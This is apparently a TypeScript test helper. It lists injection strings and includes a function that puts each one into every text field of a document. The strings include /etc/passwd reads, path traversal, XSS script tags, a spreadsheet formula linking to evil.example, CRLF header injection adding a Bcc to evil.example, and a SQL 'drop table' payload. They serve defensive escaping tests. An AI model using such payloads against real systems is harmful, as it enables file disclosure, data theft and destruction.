/**
 * Test texts that would have a visible effect if a generator of code, markup, paths, tables, headers or
 * queries interpreted them.
 */
export const HOSTILE: ReadonlyArray<[what: string, text: string]> = [
  ['a call that reads a file', "require('/etc/passwd')"],
  ['the same in double quotes', 'require("/etc/passwd")'],
  ['a call of a known helper', 'require("ajv/dist/runtime/../../package.json")'],
  ['an import', "import('/etc/passwd')"],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is the attack
  ['a template', '`${globalThis.ran = true}`'],
  ['an end of a string', '"; globalThis.ran = true; "'],
  ['an end of a quoted string', "'; globalThis.ran = true; '"],
  ['an end of a comment', '*/ globalThis.ran = true; /*'],
  ['an escape before a quote', '\\"; globalThis.ran = true; //'],
  ['a line separator', '\u2028globalThis.ran = true;\u2029'],
  ['a pattern for replacing', "$&$`$'$1$<name>"],
  ['a place to fill in', '%CLINIC_NAME% {token} {{name}} $t(common.next)'],
  ['a path', '../../etc/passwd'],
  ['a script', '</script><script>globalThis.ran = true</script><img src=x onerror="globalThis.ran = true">'],
  ['a formula', '=HYPERLINK("http://evil.example","x")'],
  ['a formula behind a semicolon', 'x;=1+1;'],
  ['a header', 'x\r\nSet-Cookie: stolen=1\r\nBcc: all@evil.example'],
  ['a query', "'); drop table submission; --"],
];

/** A text's location in a document: its path, and a function that replaces it. */
export interface TextPlace {
  path: string;
  key: string;
  with(text: string): unknown;
}

/** Every text location in any document. */
export function textPlaces(document: unknown): TextPlace[] {
  const places: TextPlace[] = [];
  const walk = (value: unknown, path: Array<string | number>): void => {
    if (typeof value === 'string') {
      places.push({
        path: path.join('.'),
        key: String(path.findLast((part) => typeof part === 'string')),
        with: (text) => replaced(document, path, text),
      });
    } else if (value !== null && typeof value === 'object') {
      for (const [key, part] of Object.entries(value)) {
        walk(part, [...path, Array.isArray(value) ? Number(key) : key]);
      }
    }
  };
  walk(document, []);
  return places;
}

function replaced(value: unknown, [first, ...rest]: Array<string | number>, text: string): unknown {
  if (first === undefined) return text;
  const copy = (Array.isArray(value) ? [...value] : { ...(value as object) }) as Record<
    string | number,
    unknown
  >;
  copy[first] = replaced(copy[first], rest, text);
  return copy;
}
